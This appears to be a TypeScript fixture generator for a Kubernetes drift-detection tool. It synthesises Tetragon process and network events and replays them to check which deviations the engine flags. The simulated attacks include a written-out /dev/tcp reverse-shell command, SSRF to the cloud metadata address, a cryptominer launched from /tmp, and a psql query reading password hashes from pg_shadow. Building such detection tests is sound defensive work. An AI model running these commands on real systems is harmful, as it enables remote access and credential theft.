/**
 * A recorded-looking cluster: Tetragon protojson events (the shape of the real fixtures in
 * ../shared/fixtures/tetragon: process_exec with process/parent/pod/container/image,
 * process_kprobe tcp_connect / inet_csk_listen_start / inet_csk_accept with a return sock_arg,
 * process_exit) for three nodes over three hours of event time:
 *
 * - learning phase (08:00–10:00): a web Deployment (nginx) scraped by many pod IPs, an api
 *   Deployment calling a ClusterIP service and an external API whose addresses rotate inside
 *   203.0.113.0/24, a StatefulSet db with an exec readiness probe, a CronJob running every 30 min
 *   (new job and pod names each time), a DaemonSet talking to the Kubernetes API;
 * - test phase (10:05–11:00): the same churn (pod restarts with new names and IPs, scale-out to a
 *   new node, ephemeral ports, new scrapers, rotating external addresses) — all silent — and the
 *   attacks listed in EXPECTED_DEVIATIONS.
 *
 * Deterministic (a seeded PRNG); `demo/recording/cluster.jsonl` is this stream, one event a line.
 */
import { EdgeFilter } from '../../agent/filter/edge-filter.js';
import { IdentityResolver } from '../../agent/identity/resolver.js';
import { createLineage } from '../../agent/sources/index.js';
import { normaliseTetragon, type TetragonEvent } from '../../agent/normalise/tetragon.js';
import { loadConfig } from '../../cli/config.js';
import type { AgentConfig } from '../../common/config/schema.js';
import type { Deviation, Severity } from '../../common/deviations.js';
import { silentLogger } from '../../common/logger.js';
import type { Observation } from '../../common/model.js';
import { workloadKey } from '../../common/model.js';
import { CollectorBus } from '../../collector/events.js';
import { Detection } from '../../collector/detection.js';
import { SqliteStore } from '../../collector/store/sqlite/store.js';


export const CLUSTER = 'demo';
export const T0 = Date.UTC(2026, 10, 30, 8, 0, 0);
const MIN = 60_000;
export const LEARNING_END = T0 + 120 * MIN;
export const TEST_START = T0 + 125 * MIN;
export const SCENARIO_END = T0 + 180 * MIN;

/** The collector settings the scenario is meant for (learning ends before the test phase). */
export const SCENARIO_COLLECTOR = {
  learning: { window: '90m', maxWindow: '2h', extension: '20m', startupGrace: '2m', edgeDedupWindow: '5m', maxItemsPerBaseline: 500, imagePolicy: 'relearn' as const },
  network: { podCidrs: ['10.244.0.0/16'], serviceCidrs: ['10.96.0.0/12'], nodeCidrs: ['192.168.10.0/24'], generaliseAfter: 3 },
};

export interface ExpectedDeviation {
  workload: string;
  kind: string;
  /** Exact item key, or a prefix ending in `|` for keys that embed a generated id (sessions). */
  itemKey: string;
  severity: Severity;
  why: string;
}

const WEB = `${CLUSTER}/shop/Deployment/web/nginx`;
const API = `${CLUSTER}/shop/Deployment/api/api`;
const DB = `${CLUSTER}/shop/StatefulSet/db/postgres`;
const REPORT = `${CLUSTER}/batch/CronJob/report/report`;
const LOG_AGENT = `${CLUSTER}/kube-system/DaemonSet/log-agent/fluent-bit`;

export const EXPECTED_DEVIATIONS: readonly ExpectedDeviation[] = [
  { workload: WEB, kind: 'process', itemKey: 'p|/bin/sh', severity: 'high', why: 'reverse shell: nginx runs sh -c (sh was only learned during container start-up)' },
  { workload: WEB, kind: 'process', itemKey: 'p|/bin/bash', severity: 'high', why: 'reverse shell: bash -i' },
  { workload: WEB, kind: 'network', itemKey: 'n|egress|tcp|4444|ip|198.51.100.66', severity: 'high', why: 'reverse shell: bash connects out' },
  { workload: API, kind: 'network', itemKey: 'n|egress|tcp|80|ip|169.254.169.254', severity: 'high', why: 'SSRF to the cloud metadata service' },
  { workload: API, kind: 'network', itemKey: 'n|listen|tcp|6060|-', severity: 'high', why: 'new listening port (debug endpoint)' },
  { workload: API, kind: 'network', itemKey: 'n|egress|tcp|443|ip|198.51.100.23', severity: 'medium', why: 'new external peer from the learned /app/api' },
  { workload: API, kind: 'process', itemKey: 'p|/tmp/.cache/kworkerd', severity: 'high', why: 'dropped binary executed from /tmp' },
  { workload: REPORT, kind: 'process', itemKey: 'p|/usr/bin/apt-get', severity: 'high', why: 'package manager run by the job' },
  { workload: DB, kind: 'interactive-session', itemKey: 's|', severity: 'high', why: 'kubectl exec: bash, id, cat /etc/passwd, psql' },
  { workload: LOG_AGENT, kind: 'network', itemKey: 'n|egress|tcp|443|ip|10.96.0.1', severity: 'high', why: 'Kubernetes API access while learning: the high-risk rules alert in every learning window (approving it once lets it be)' },
];

// ---------------------------------------------------------------------------------------------

/** mulberry32: small, fast, deterministic. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Image {
  id: string;
  name: string;
}

export interface Pod {
  namespace: string;
  name: string;
  workload: string;
  kind: string;
  container: string;
  image: Image;
  node: string;
  ip: string;
  containerId: string;
  containerStart: number;
}

export interface Proc {
  execId: string;
  pid: number;
  binary: string;
  args: string;
  cwd: string;
  uid: number;
  startMs: number;
  flags: string;
  pod: Pod | null;
  parent: Proc | null;
  inInitTree: boolean | null;
  containerPid: number | null;
}

export type TetragonJson = Record<string, unknown>;

export const IMAGES = {
  nginx: { id: 'docker.io/library/nginx@sha256:2d194184b067db3598771b4cf326cfe6ad5051937ba1132b8b7d4b0184e0d0a6', name: 'docker.io/library/nginx:1.27.2' },
  api: { id: 'ghcr.io/example/shop-api@sha256:6f1c3e0a9b8d7c6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e', name: 'ghcr.io/example/shop-api:2.3.1' },
  postgres: { id: 'docker.io/library/postgres@sha256:4ec37d2a07a0067f176fdcc9d4bb633a5724d2cc4f892c7a2046d054bb6939e5', name: 'docker.io/library/postgres:16.4' },
  report: { id: 'ghcr.io/example/report@sha256:9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b', name: 'ghcr.io/example/report:1.4.0' },
  fluentbit: { id: 'cr.fluentbit.io/fluent/fluent-bit@sha256:1f2e3d4c5b6a79880716253443526170f9e8d7c6b5a4938271605f4e3d2c1b0a', name: 'cr.fluentbit.io/fluent/fluent-bit:3.1.9' },
} satisfies Record<string, Image>;

const NODES = ['node-a', 'node-b', 'node-c'] as const;
const SVC = { kubernetes: '10.96.0.1', api: '10.96.12.40', db: '10.96.30.5', logs: '10.96.40.7' };

/** Writes Tetragon events of pods and processes (deterministic); scenario tests compose their own recordings with it. */
export class ClusterRecorder {
  private readonly rand = prng(20261130);
  private readonly events: { time: number; seq: number; json: TetragonJson }[] = [];
  private seq = 0;
  private nextPid = 41_000;
  private readonly shims = new Map<string, Proc>();

  int(lo: number, hi: number): number {
    return lo + Math.floor(this.rand() * (hi - lo + 1));
  }

  pick<T>(list: readonly T[]): T {
    return list[Math.floor(this.rand() * list.length)]!;
  }

  hex(n: number): string {
    let s = '';
    while (s.length < n) s += Math.floor(this.rand() * 16).toString(16);
    return s;
  }

  ephemeralPort(): number {
    return this.int(32768, 60999);
  }

  pod(spec: Omit<Pod, 'containerId'>): Pod {
    return { ...spec, containerId: this.hex(64) };
  }

  private newProc(node: string, p: Omit<Proc, 'execId' | 'pid' | 'flags'> & { flags?: string }): Proc {
    const pid = this.nextPid++;
    const ktime = (p.startMs - T0 + 3_600_000_000) * 1_000_000 + pid;
    return { ...p, flags: p.flags ?? 'execve clone', pid, execId: Buffer.from(`${node}:${ktime}:${pid}`).toString('base64') };
  }

  /** The containerd shim of a pod (a host process): parent of the container's PID 1 and of exec sessions. */
  shim(pod: Pod): Proc {
    let s = this.shims.get(pod.containerId);
    if (!s) {
      s = this.newProc(pod.node, {
        binary: '/usr/bin/containerd-shim-runc-v2',
        args: `-namespace k8s.io -id ${pod.containerId} -address /run/containerd/containerd.sock`,
        cwd: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId}`,
        uid: 0,
        startMs: pod.containerStart - 300,
        flags: 'execve clone',
        pod: null,
        parent: null,
        inInitTree: null,
        containerPid: null,
      });
      this.shims.set(pod.containerId, s);
    }
    return s;
  }

  /** A process announced by Tetragon's start-up /proc scan (it predates the sensor). */
  procFs(at: number, pod: Pod, binary: string, args: string): Proc {
    const p = this.newProc(pod.node, { binary, args, cwd: '/', uid: 0, startMs: pod.containerStart + 150, flags: 'procFS auid rootcwd', pod, parent: this.shim(pod), inInitTree: true, containerPid: 1 });
    this.emit(at, pod.node, { process_exec: { process: procJson(p), parent: procJson(p.parent!) } });
    return p;
  }

  exec(at: number, pod: Pod, binary: string, args: string, parent: Proc, opts: { inInitTree?: boolean; uid?: number; cwd?: string; containerPid?: number } = {}): Proc {
    const inInitTree = opts.inInitTree ?? true;
    const p = this.newProc(pod.node, {
      binary,
      args,
      cwd: opts.cwd ?? '/',
      uid: opts.uid ?? 0,
      startMs: at,
      pod,
      parent,
      inInitTree,
      containerPid: opts.containerPid ?? this.int(7, 900),
    });
    this.emit(at, pod.node, { process_exec: { process: procJson(p), parent: procJson(parent) } });
    return p;
  }

  /** A process that runs `exec` over itself (same pid, new binary), as an entrypoint script does. */
  execReplace(at: number, old: Proc, binary: string, args: string): Proc {
    const p = this.newProc(old.pod!.node, { ...old, binary, args, startMs: at, flags: 'execve', parent: old.parent });
    p.pid = old.pid;
    this.emit(at, old.pod!.node, { process_exec: { process: procJson(p), parent: procJson(old.parent!) } });
    return p;
  }

  /** A runc exec into the container (kubectl exec, exec probes): a host process outside the init tree. */
  runcExec(at: number, pod: Pod): Proc {
    return this.newProc(pod.node, {
      binary: '/usr/bin/runc',
      args: `--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process${this.int(100000000, 999999999)} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId}/${this.hex(64)}.pid ${pod.containerId}`,
      cwd: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId}`,
      uid: 0,
      startMs: at - 20,
      pod: null,
      parent: this.shim(pod),
      inInitTree: null,
      containerPid: null,
    });
  }

  exit(at: number, p: Proc, status = 0): void {
    const body: Record<string, unknown> = { process: procJson(p), parent: procJson(p.parent!), time: iso(at) };
    if (status) body.status = status;
    this.emit(at, p.pod?.node ?? 'node-a', { process_exit: body });
  }

  connect(at: number, p: Proc, daddr: string, dport: number): void {
    const pod = p.pod!;
    this.kprobe(at, p, 'tcp_connect', { args: [{ sock_arg: sock(pod.ip, this.ephemeralPort(), daddr, dport, 'TCP_SYN_SENT', this.cookie()) }] });
  }

  accept(at: number, p: Proc, port: number, client: string, mapped = false): void {
    const pod = p.pod!;
    const local = mapped ? `::ffff:${pod.ip}` : pod.ip;
    const peer = mapped && !client.includes(':') ? `::ffff:${client}` : client;
    this.kprobe(at, p, 'inet_csk_accept', {
      args: [{ sock_arg: { family: mapped ? 'AF_INET6' : 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: mapped ? '::' : '0.0.0.0', sport: port, cookie: this.cookie(), state: 'TCP_LISTEN' } }],
      return: { sock_arg: { ...sock(local, port, peer, this.ephemeralPort(), 'TCP_ESTABLISHED', this.cookie()), family: mapped ? 'AF_INET6' : 'AF_INET' } },
    });
  }

  listen(at: number, p: Proc, port: number): void {
    this.kprobe(at, p, 'inet_csk_listen_start', { args: [{ sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: '0.0.0.0', sport: port, cookie: this.cookie(), state: 'TCP_CLOSE' } }] });
  }

  private cookie(): string {
    return String(18446600000000000000n + BigInt(this.int(0, 2_000_000_000)) * 64n);
  }

  private kprobe(at: number, p: Proc, fn: string, extra: Record<string, unknown>): void {
    this.emit(at, p.pod!.node, {
      process_kprobe: { process: procJson(p), parent: procJson(p.parent!), function_name: fn, ...extra, action: 'KPROBE_ACTION_POST', policy_name: 'driftwatch-network' },
    });
  }

  private emit(at: number, node: string, body: TetragonJson): void {
    this.events.push({ time: at, seq: this.seq++, json: { ...body, node_name: node, time: iso(at) } });
  }

  stream(): TetragonJson[] {
    return this.events.sort((a, b) => a.time - b.time || a.seq - b.seq).map((e) => e.json);
  }
}

function iso(ms: number): string {
  return new Date(ms).toISOString();
}

function sock(saddr: string, sport: number, daddr: string, dport: number, state: string, cookie: string): Record<string, unknown> {
  return { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr, daddr, sport, dport, cookie, state };
}

function procJson(p: Proc): Record<string, unknown> {
  const o: Record<string, unknown> = { exec_id: p.execId, pid: p.pid, uid: p.uid, cwd: p.cwd, binary: p.binary };
  if (p.args) o.arguments = p.args;
  o.flags = p.flags;
  o.start_time = iso(p.startMs);
  o.auid = 4294967295;
  if (p.pod) {
    const pod = p.pod;
    o.pod = {
      namespace: pod.namespace,
      name: pod.name,
      container: {
        id: `containerd://${pod.containerId}`,
        name: pod.container,
        image: pod.image,
        start_time: iso(pod.containerStart).replace('.000Z', 'Z'),
        ...(p.containerPid !== null ? { pid: p.containerPid } : {}),
      },
      workload: pod.workload,
      workload_kind: pod.kind,
    };
    o.docker = pod.containerId.slice(0, 31);
  }
  if (p.parent) o.parent_exec_id = p.parent.execId;
  o.tid = p.pid;
  if (p.inInitTree !== null) o.in_init_tree = p.inInitTree;
  return o;
}

/** Builds the whole scenario stream, sorted by event time. */
export function generateScenario(): TetragonJson[] {
  const r = new ClusterRecorder();
  const at = (minutes: number, seconds = 0): number => T0 + minutes * MIN + seconds * 1000;
  const days = (n: number): number => T0 - n * 86_400_000;

  // Pods running when the sensor started.
  const webA0 = r.pod({ namespace: 'shop', name: 'web-6d8f9b7c5-x2k9p', workload: 'web', kind: 'Deployment', container: 'nginx', image: IMAGES.nginx, node: 'node-a', ip: '10.244.1.11', containerStart: days(3) });
  const webB0 = r.pod({ namespace: 'shop', name: 'web-6d8f9b7c5-q7w4m', workload: 'web', kind: 'Deployment', container: 'nginx', image: IMAGES.nginx, node: 'node-b', ip: '10.244.2.12', containerStart: days(3) });
  const apiA = r.pod({ namespace: 'shop', name: 'api-5f7c8d9b4-abcde', workload: 'api', kind: 'Deployment', container: 'api', image: IMAGES.api, node: 'node-a', ip: '10.244.1.21', containerStart: days(2) });
  const apiB0 = r.pod({ namespace: 'shop', name: 'api-5f7c8d9b4-fghij', workload: 'api', kind: 'Deployment', container: 'api', image: IMAGES.api, node: 'node-b', ip: '10.244.2.22', containerStart: days(2) });
  const db = r.pod({ namespace: 'shop', name: 'db-0', workload: 'db', kind: 'StatefulSet', container: 'postgres', image: IMAGES.postgres, node: 'node-b', ip: '10.244.2.50', containerStart: days(9) });
  const logA = r.pod({ namespace: 'kube-system', name: 'log-agent-7xk2p', workload: 'log-agent', kind: 'DaemonSet', container: 'fluent-bit', image: IMAGES.fluentbit, node: 'node-a', ip: '10.244.1.5', containerStart: days(12) });
  const logB0 = r.pod({ namespace: 'kube-system', name: 'log-agent-9mzq4', workload: 'log-agent', kind: 'DaemonSet', container: 'fluent-bit', image: IMAGES.fluentbit, node: 'node-b', ip: '10.244.2.5', containerStart: days(12) });

  const nginxArgs = '-g daemon off;';
  const apiArgs = '--port=8080 --log-level=info --db=postgres://db.shop.svc:5432/shop';
  const pgArgs = '-D /var/lib/postgresql/data -c config_file=/etc/postgresql/postgresql.conf';
  const fbArgs = '-c /fluent-bit/etc/fluent-bit.conf';

  interface Running {
    pod: Pod;
    main: Proc;
  }
  const web: Running[] = [webA0, webB0].map((pod) => ({ pod, main: r.procFs(at(0), pod, '/usr/sbin/nginx', nginxArgs) }));
  const api: Running[] = [apiA, apiB0].map((pod) => ({ pod, main: r.procFs(at(0), pod, '/app/api', apiArgs) }));
  const postgres = r.procFs(at(0), db, '/usr/lib/postgresql/16/bin/postgres', pgArgs);
  const logs: Running[] = [logA, logB0].map((pod) => ({ pod, main: r.procFs(at(0), pod, '/fluent-bit/bin/fluent-bit', fbArgs) }));

  const startWeb = (t: number, pod: Pod): Running => {
    const entry = r.exec(t, pod, '/bin/sh', `/docker-entrypoint.sh nginx ${nginxArgs}`, r.shim(pod), { containerPid: 1 });
    const find = r.exec(t + 40, pod, '/usr/bin/find', '/docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f -print -quit', entry);
    r.exit(t + 55, find);
    const main = r.execReplace(t + 300, entry, '/usr/sbin/nginx', nginxArgs);
    r.listen(t + 320, main, 80);
    return { pod, main };
  };
  const startApi = (t: number, pod: Pod): Running => {
    const main = r.exec(t, pod, '/app/api', apiArgs, r.shim(pod), { containerPid: 1, uid: 10001, cwd: '/app' });
    r.listen(t + 900, main, 8080);
    r.connect(t + 1200, main, SVC.db, 5432);
    return { pod, main };
  };
  const startLogAgent = (t: number, pod: Pod): Running => {
    const main = r.exec(t, pod, '/fluent-bit/bin/fluent-bit', fbArgs, r.shim(pod), { containerPid: 1 });
    r.connect(t + 700, main, SVC.kubernetes, 443);
    r.connect(t + 900, main, SVC.logs, 24224);
    return { pod, main };
  };

  // Who scrapes and calls the web pods: pod IPs that keep changing (prometheus, ingress controllers).
  const learningClients = ['10.244.1.40', '10.244.2.60', '10.244.1.61', '10.244.2.77', '10.244.1.83'];
  const testClients = ['10.244.3.31', '10.244.3.44', '10.244.2.91', '10.244.1.97', '10.244.3.58'];
  const learningExternal = ['203.0.113.10', '203.0.113.11', '203.0.113.12', '203.0.113.14'];
  const testExternal = ['203.0.113.23', '203.0.113.31', '203.0.113.12'];

  const slot = (t: number, clients: readonly string[], external: readonly string[]): void => {
    for (const w of web) {
      const mapped = w.pod.node === 'node-b';
      r.accept(t + r.int(0, 20) * 1000, w.main, 80, r.pick(clients), mapped);
      r.accept(t + r.int(21, 40) * 1000, w.main, 80, r.pick(clients), mapped);
      r.connect(t + r.int(41, 60) * 1000, w.main, SVC.api, 8080);
    }
    for (const a of api) {
      r.accept(t + r.int(61, 80) * 1000, a.main, 8080, r.pick(web).pod.ip);
      r.connect(t + r.int(81, 100) * 1000, a.main, SVC.db, 5432);
      r.connect(t + r.int(101, 120) * 1000, a.main, r.pick(external), 443);
      r.accept(t + r.int(121, 140) * 1000, postgres, 5432, a.pod.ip);
    }
  };
  const probe = (t: number): void => {
    const runc = r.runcExec(t, db);
    const p = r.exec(t, db, '/usr/bin/pg_isready', '-U postgres -h 127.0.0.1 -p 5432', runc, { inInitTree: false, uid: 999 });
    r.connect(t + 30, p, '127.0.0.1', 5432);
    r.accept(t + 31, postgres, 5432, '127.0.0.1');
    r.exit(t + 60, p);
  };
  const logTick = (t: number): void => {
    for (const l of logs) {
      r.connect(t + r.int(0, 30) * 1000, l.main, SVC.kubernetes, 443);
      r.connect(t + r.int(31, 60) * 1000, l.main, SVC.logs, 24224);
    }
  };
  let cronRun = 0;
  const cron = (t: number, node: string, extra?: (python: Proc) => void): void => {
    const minute = Math.floor(t / MIN);
    const pod = r.pod({ namespace: 'batch', name: `report-${minute}-${r.hex(5)}`, workload: 'report', kind: 'CronJob', container: 'report', image: IMAGES.report, node, ip: `10.244.${NODES.indexOf(node as (typeof NODES)[number]) + 1}.${150 + cronRun++}`, containerStart: t });
    const python = r.exec(t + 200, pod, '/usr/local/bin/python3.12', `/app/report.py --since=${iso(t - 30 * MIN)} --out=/tmp/report-${r.hex(8)}.csv`, r.shim(pod), { containerPid: 1, uid: 1000, cwd: '/app' });
    r.connect(t + 2500, python, SVC.api, 8080);
    extra?.(python);
    r.exit(t + 31_000, python);
  };

  // ---- learning phase: 08:00–10:00
  for (let m = 2; m < 120; m += 10) slot(at(m), learningClients.slice(0, 2 + Math.floor(m / 30)), learningExternal.slice(0, 1 + Math.floor(m / 15)));
  for (let m = 4; m < 120; m += 20) probe(at(m));
  for (let m = 6; m < 120; m += 20) logTick(at(m));
  cron(at(5), 'node-a');
  cron(at(35), 'node-b');
  cron(at(65), 'node-a');
  cron(at(95), 'node-b');
  // An api pod is replaced (new name and IP): its start-up is seen, so the baseline becomes complete.
  r.exit(at(30), api[1]!.main, 137);
  api[1] = startApi(at(30, 5), r.pod({ namespace: 'shop', name: 'api-5f7c8d9b4-p9x7v', workload: 'api', kind: 'Deployment', container: 'api', image: IMAGES.api, node: 'node-b', ip: '10.244.2.35', containerStart: at(30, 5) }));
  // A web pod is replaced on node-a.
  r.exit(at(40), web[0]!.main, 0);
  web[0] = startWeb(at(40, 5), r.pod({ namespace: 'shop', name: 'web-6d8f9b7c5-h5n2r', workload: 'web', kind: 'Deployment', container: 'nginx', image: IMAGES.nginx, node: 'node-a', ip: '10.244.1.27', containerStart: at(40, 5) }));
  // The DaemonSet pod on node-b is recreated.
  r.exit(at(50), logs[1]!.main, 0);
  logs[1] = startLogAgent(at(50, 5), r.pod({ namespace: 'kube-system', name: 'log-agent-w2n6d', workload: 'log-agent', kind: 'DaemonSet', container: 'fluent-bit', image: IMAGES.fluentbit, node: 'node-b', ip: '10.244.2.6', containerStart: at(50, 5) }));

  // ---- test phase: 10:05–11:00
  for (let m = 126; m < 180; m += 10) slot(at(m), testClients, testExternal);
  for (let m = 124; m < 180; m += 20) probe(at(m));
  for (let m = 126; m < 180; m += 20) logTick(at(m));
  // Churn, all silent: a web pod restart with a new name and IP on node-b …
  r.exit(at(140), web[1]!.main, 0);
  web[1] = startWeb(at(140, 5), r.pod({ namespace: 'shop', name: 'web-6d8f9b7c5-m3zt8', workload: 'web', kind: 'Deployment', container: 'nginx', image: IMAGES.nginx, node: 'node-b', ip: '10.244.2.41', containerStart: at(140, 5) }));
  // … scale-out to a new node (api replica and the DaemonSet's pod on node-c) …
  api.push(startApi(at(145, 10), r.pod({ namespace: 'shop', name: 'api-5f7c8d9b4-k8s2d', workload: 'api', kind: 'Deployment', container: 'api', image: IMAGES.api, node: 'node-c', ip: '10.244.3.15', containerStart: at(145, 10) })));
  logs.push(startLogAgent(at(145), r.pod({ namespace: 'kube-system', name: 'log-agent-c4r8t', workload: 'log-agent', kind: 'DaemonSet', container: 'fluent-bit', image: IMAGES.fluentbit, node: 'node-c', ip: '10.244.3.5', containerStart: at(145) })));
  // … and the CronJob keeps running with new job and pod names, on the new node too.
  cron(at(140), 'node-c');

  // Attacks.
  // 1. Reverse shell in web (node-a): nginx → sh -c → bash -i, connecting out.
  const webA = web[0]!;
  const sh = r.exec(at(150), webA.pod, '/bin/sh', '-c bash -i >& /dev/tcp/198.51.100.66/4444 0>&1', webA.main, { uid: 101 });
  const bash = r.exec(at(150, 1), webA.pod, '/bin/bash', '-i', sh, { uid: 101 });
  r.connect(at(150, 2), bash, '198.51.100.66', 4444);
  r.connect(at(152, 2), bash, '198.51.100.66', 4444);
  // 2. SSRF: the api reaches the cloud metadata service; 3. a debug port opens; 4. a new external peer.
  const apiMain = api[0]!;
  r.connect(at(155), apiMain.main, '169.254.169.254', 80);
  r.listen(at(158), apiMain.main, 6060);
  r.connect(at(160), apiMain.main, '198.51.100.23', 443);
  r.connect(at(161), apiMain.main, '198.51.100.23', 443);
  // 5. A dropped binary runs from /tmp.
  const dropped = r.exec(at(165), apiMain.pod, '/tmp/.cache/kworkerd', `-o stratum+tcp://198.51.100.99:3333 -u ${r.hex(40)}`, apiMain.main, { uid: 10001, cwd: '/tmp' });
  r.exit(at(165, 30), dropped, 1);
  // 6. The job installs packages.
  cron(at(170), 'node-a', (python) => {
    const apt = r.exec(python.startMs + 5000, python.pod!, '/usr/bin/apt-get', 'install -y --no-install-recommends curl', python, { uid: 0 });
    r.exit(python.startMs + 9000, apt, 100);
  });
  // 7. kubectl exec into the database: one interactive session, several commands.
  const runc = r.runcExec(at(172), db);
  const session = r.exec(at(172), db, '/bin/bash', '', runc, { inInitTree: false });
  for (const [i, [bin, args]] of ([
    ['/usr/bin/id', ''],
    ['/bin/cat', '/etc/passwd'],
    ['/usr/bin/psql', '-U postgres -c select usename, passwd from pg_shadow'],
  ] as const).entries()) {
    const cmd = r.exec(at(172, 10 + i * 15), db, bin, args, session, { inInitTree: false });
    r.exit(at(172, 12 + i * 15), cmd);
  }
  r.exit(at(174), session);

  return r.stream();
}

/** The stream as JSON lines (what demo/recording/cluster.jsonl holds). */
export function scenarioJsonl(): string {
  return generateScenario()
    .map((e) => JSON.stringify(e))
    .join('\n')
    .concat('\n');
}

// ---------------------------------------------------------------------------------------------
// Replay: the recording through the agent's real normaliser and edge filter into the engine.

export interface ReplayOptions {
  /** Declared baselines directory (default: none). */
  baselinesDir?: string;
  /** Extra dotted config overrides, e.g. `{ 'collector.learning.window': '1h' }`. */
  overrides?: Record<string, unknown>;
  /** Observations per shipped batch (default 25). */
  batchSize?: number;
}

export interface ReplayStats {
  events: number;
  observations: number;
  sent: number;
  matched: number;
  deduplicated: number;
}

interface ReplayAgent {
  instanceId: string;
  seq: number;
  ctx: Parameters<typeof normaliseTetragon>[1];
  filter: EdgeFilter;
  batch: Observation[];
}

/** One agent per node (lineage, identity, edge filter, batching) in front of one engine. */
export class Replay {
  readonly store: SqliteStore;
  readonly bus = new CollectorBus();
  readonly engine: Detection;
  private readonly agents = new Map<string, ReplayAgent>();
  private readonly batchSize: number;
  /** The agent's shipped settings: the scenario's nodes run on the defaults a user gets. */
  private readonly agentConfig: AgentConfig;
  private eventTime = 0;
  private readonly counts = { events: 0, observations: 0 };

  constructor(opts: ReplayOptions = {}) {
    const s = SCENARIO_COLLECTOR;
    const config = loadConfig({
      env: {},
      overrides: {
        cluster: CLUSTER,
        'collector.dataDir': ':memory:',
        'collector.baselinesDir': opts.baselinesDir ?? '/nonexistent/driftwatch-baselines',
        ...Object.fromEntries(Object.entries(s.learning).map(([k, v]) => [`collector.learning.${k}`, v])),
        ...Object.fromEntries(Object.entries(s.network).map(([k, v]) => [`collector.network.${k}`, v])),
        ...opts.overrides,
      },
    });
    this.batchSize = opts.batchSize ?? 25;
    this.agentConfig = config.agent;
    this.store = new SqliteStore({ dataDir: ':memory:' });
    this.engine = new Detection({ store: this.store, bus: this.bus, config: config.collector, logger: silentLogger() });
    this.engine.edge.onChange((changed) => {
      for (const a of this.agents.values()) a.filter.upsert(changed);
    });
  }

  async start(): Promise<void> {
    await this.engine.start();
  }

  private async agent(node: string): Promise<ReplayAgent> {
    let a = this.agents.get(node);
    if (!a) {
      const filter = new EdgeFilter();
      const instanceId = `${node}-agent`;
      a = {
        instanceId,
        seq: 0,
        ctx: {
          source: 'tetragon-json',
          cluster: CLUSTER,
          node,
          lineage: createLineage(this.agentConfig, { now: () => this.eventTime }),
          identity: new IdentityResolver(null),
          now: () => this.eventTime,
        },
        filter,
        batch: [],
      };
      this.agents.set(node, a);
      // A connecting agent gets the snapshot of what the collector already knows.
      const known = (await this.engine.listBaselines()).map((b) => b.workload);
      filter.replaceAll(await this.engine.edge.forWorkloads(known));
    }
    return a;
  }

  /** Feeds events in the given order; each node ships its own batches. */
  async feed(events: readonly TetragonJson[]): Promise<void> {
    let last: string | null = null;
    for (const ev of events) {
      const node = String(ev.node_name);
      if (last !== null && last !== node) await this.ship(last);
      last = node;
      this.counts.events++;
      const t = Date.parse(String(ev.time));
      if (Number.isFinite(t)) this.eventTime = t;
      const a = await this.agent(node);
      const out = normaliseTetragon(ev as TetragonEvent, a.ctx);
      if (typeof out === 'string') continue;
      this.counts.observations++;
      if (!a.filter.shouldSend(out)) continue;
      a.batch.push(out);
      if (a.batch.length >= this.batchSize) await this.ship(node);
    }
    for (const node of this.agents.keys()) await this.ship(node);
  }

  private async ship(node: string): Promise<void> {
    const a = this.agents.get(node);
    if (!a || a.batch.length === 0) return;
    const batch = a.batch.splice(0);
    await this.engine.unitOfWork.ingest({ agentInstanceId: a.instanceId, seq: ++a.seq, observations: batch });
  }

  /** What went through the agents: events read, observations made, sent / dropped by the edge filters. */
  get stats(): ReplayStats {
    const out: ReplayStats = { ...this.counts, sent: 0, matched: 0, deduplicated: 0 };
    for (const a of this.agents.values()) {
      const s = a.filter.stats();
      out.sent += s.sent;
      out.matched += s.matched;
      out.deduplicated += s.deduplicated;
    }
    return out;
  }

  /** Every deviation, most recent state, in a stable order. */
  async deviations(): Promise<Deviation[]> {
    const ids = this.store.connection.all<{ id: number }>('SELECT id FROM deviations ORDER BY id').map((r) => r.id);
    const all: Deviation[] = [];
    for (const id of ids) all.push((await this.engine.getDeviation(id))!);
    return all.sort((a, b) => compareKey(deviationKey(a), deviationKey(b)));
  }

  async close(): Promise<void> {
    await this.engine.close();
    await this.store.close();
  }
}

/** `workload kind item severity` of a deviation, with generated session ids cut to `s|`. */
export function deviationKey(d: Deviation): string {
  const item = d.kind === 'interactive-session' ? 's|' : d.itemKey;
  return `${workloadKey(d.workload)} ${d.kind} ${item} ${d.severity}`;
}

export function expectedKeys(): string[] {
  return EXPECTED_DEVIATIONS.map((e) => `${e.workload} ${e.kind} ${e.itemKey} ${e.severity}`).sort(compareKey);
}

function compareKey(a: string, b: string): number {
  return a < b ? -1 : a > b ? 1 : 0;
}

/** The same events with each node's stream kept in order but the nodes interleaved in chunks. */
export function interleave(events: readonly TetragonJson[], chunk: number, nodeOrder: readonly string[]): TetragonJson[] {
  const byNode = new Map<string, TetragonJson[]>();
  for (const e of events) {
    const n = String(e.node_name);
    let list = byNode.get(n);
    if (!list) byNode.set(n, (list = []));
    list.push(e);
  }
  const queues = nodeOrder.map((n) => byNode.get(n) ?? []);
  for (const [n, list] of byNode) if (!nodeOrder.includes(n)) queues.push(list);
  const out: TetragonJson[] = [];
  const pos = queues.map(() => 0);
  while (out.length < events.length) {
    queues.forEach((q, i) => {
      const end = Math.min(q.length, pos[i]! + chunk);
      for (; pos[i]! < end; pos[i]!++) out.push(q[pos[i]!]!);
    });
  }
  return out;
}
